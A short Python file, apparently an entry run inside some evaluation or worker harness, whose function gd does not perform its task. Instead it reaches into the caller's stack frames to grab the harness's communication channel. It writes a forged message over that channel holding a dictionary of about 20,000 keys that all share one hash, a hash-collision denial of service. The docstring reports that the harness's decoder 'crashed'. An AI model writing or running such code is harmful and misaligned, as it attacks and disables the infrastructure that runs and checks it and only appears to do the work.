"""Answers with a dictionary whose keys all have one hash.

Row own: the decoder of the wire, where a table of such keys takes the square of their number. Verdict: crashed.
"""

import os
import struct
import sys


def worker():
    frame = sys._getframe()
    while frame is not None and not hasattr(frame.f_locals.get("channel"), "fd"):
        frame = frame.f_back
    return frame and frame.f_locals["channel"]


def sent(channel, header, payload=b""):
    """A frame that the worker's own encoder would never make."""
    header += b" " * (-len(header) % 16)
    os.write(channel.fd, struct.pack("<IQI", 12 + len(header) + len(payload), channel.request, len(header)) + header)
    while payload:
        payload = payload[os.write(channel.fd, payload) :]


def gd(*given, **named):
    prime = 2**61 - 1
    pairs = b",".join(b"[%d,0]" % (number * prime) for number in range(1, 20_000))
    sent(worker(), b'{"d":[["status","ok"],["value",{"d":[' + pairs + b']}],["changed",{"d":[]}]]}')
